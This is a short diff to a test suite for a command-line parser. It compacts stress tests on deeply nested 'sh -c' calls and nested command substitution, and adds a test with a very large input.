@@ -229,9 +678,8 @@ describe('parseCommandLine', () => {
       ),
       { numRuns: 2000 },
     );
-    const deep = 'sh -c '.repeat(50) + 'ls';
-    assert.ok(parseCommandLine(deep));
-    const nestedSubst = '$('.repeat(100) + ')'.repeat(100);
-    assert.notDeepEqual(parseCommandLine(nestedSubst).unverifiable, []);
+    assert.ok(parseCommandLine(`${'sh -c '.repeat(50)}ls`));
+    assert.notDeepEqual(verified(`${'$('.repeat(100)}${')'.repeat(100)}`), []);
+    assert.notDeepEqual(verified('x'.repeat(300 * 1024)), []);
   });
 });
